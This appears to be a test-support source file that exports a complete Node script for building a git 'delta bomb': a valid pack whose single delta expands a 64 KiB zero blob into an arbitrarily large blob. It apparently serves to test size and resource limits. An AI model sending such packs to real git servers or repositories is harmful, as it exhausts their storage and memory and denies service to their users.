/**
 * A delta bomb, built the way an attacker would: a pack of the named objects (read with
 * `git cat-file` in the current repository, each stored whole), then a 64 KiB zero-filled
 * blob and one OFS_DELTA against it whose instructions are "copy the whole base" over and
 * over — a single byte (0x80: copy, offset 0, size 0x10000) per 64 KiB of result — so a
 * few kilobytes of pack declare and produce `resultBytes` of zeros. git accepts it: it is a
 * valid pack, and the blob it makes is a real blob.
 *
 * It is plain node (no teamd code), so a seat can run it from its own tmp:
 * - `node bomb.cjs id RESULT_BYTES` prints the blob id the bomb produces (hashed in 1 MiB
 *   steps, never held whole);
 * - `node bomb.cjs pack RESULT_BYTES [OID...]` writes the pack to stdout.
 */
export const BOMB_SCRIPT = String.raw`
const { createHash } = require("node:crypto");
const { execFileSync } = require("node:child_process");
const { deflateSync } = require("node:zlib");
const [mode, sizeText, ...oids] = process.argv.slice(2);
const result = Number(sizeText);
const BASE = 65536;
if (!(Number.isSafeInteger(result) && result > 0 && result % BASE === 0)) throw new Error("RESULT_BYTES must be a positive multiple of 65536");
function blobId(size) {
  const hash = createHash("sha1").update("blob " + size + "\0");
  const zeros = Buffer.alloc(Math.min(size, 1 << 20));
  for (let left = size; left > 0; left -= zeros.length) hash.update(left >= zeros.length ? zeros : zeros.subarray(0, left));
  return hash.digest("hex");
}
if (mode === "id") {
  process.stdout.write(blobId(result) + "\n");
  process.exit(0);
}
function header(type, size) {
  const bytes = [];
  let c = (type << 4) | (size & 15);
  size = Math.floor(size / 16);
  while (size > 0) {
    bytes.push(c | 0x80);
    c = size & 0x7f;
    size = Math.floor(size / 128);
  }
  bytes.push(c);
  return Buffer.from(bytes);
}
function varint(n) {
  const bytes = [];
  do {
    let c = n & 0x7f;
    n = Math.floor(n / 128);
    if (n > 0) c |= 0x80;
    bytes.push(c);
  } while (n > 0);
  return Buffer.from(bytes);
}
function ofs(distance) {
  const bytes = [distance & 127];
  while ((distance = Math.floor(distance / 128)) > 0) bytes.unshift(128 | (--distance & 127));
  return Buffer.from(bytes);
}
const TYPES = { commit: 1, tree: 2, blob: 3, tag: 4 };
const parts = [];
let offset = 12;
const push = (buffer) => {
  parts.push(buffer);
  offset += buffer.length;
};
for (const oid of oids) {
  const type = execFileSync("git", ["cat-file", "-t", oid], { encoding: "utf8" }).trim();
  const data = execFileSync("git", ["cat-file", type, oid], { maxBuffer: 1 << 30 });
  push(Buffer.concat([header(TYPES[type], data.length), deflateSync(data)]));
}
const baseAt = offset;
push(Buffer.concat([header(3, BASE), deflateSync(Buffer.alloc(BASE))]));
const delta = Buffer.concat([varint(BASE), varint(result), Buffer.alloc(result / BASE, 0x80)]);
const deltaAt = offset;
push(Buffer.concat([header(6, delta.length), ofs(deltaAt - baseAt), deflateSync(delta, { level: 9 })]));
const head = Buffer.alloc(12);
head.write("PACK", 0, "latin1");
head.writeUInt32BE(2, 4);
head.writeUInt32BE(oids.length + 2, 8);
const body = Buffer.concat([head, ...parts]);
process.stdout.write(Buffer.concat([body, createHash("sha1").update(body).digest()]));
`;
